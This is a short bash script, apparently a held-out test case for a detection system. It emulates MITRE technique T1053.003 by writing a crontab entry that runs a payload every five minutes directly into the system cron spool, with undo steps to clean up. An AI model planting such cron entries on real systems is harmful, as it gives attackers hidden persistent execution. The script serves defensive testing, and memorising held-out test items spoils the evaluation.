#!/usr/bin/env bash
# attack: T1053.003 Write a crontab straight into /var/spool/cron/crontabs (for an account that does not exist: inert)
# set: unseen
. "$(dirname "$0")/lib/common.sh"
d=/var/spool/cron/crontabs
[ -d "$d" ] || { mkdir -p "$d" && undo "rmdir '$d'"; }
f=$d/immune-q$$
undo "rm -f '$f'"
echo "*/5 * * * * $SW/bin/payload >/dev/null 2>&1" >"$f"
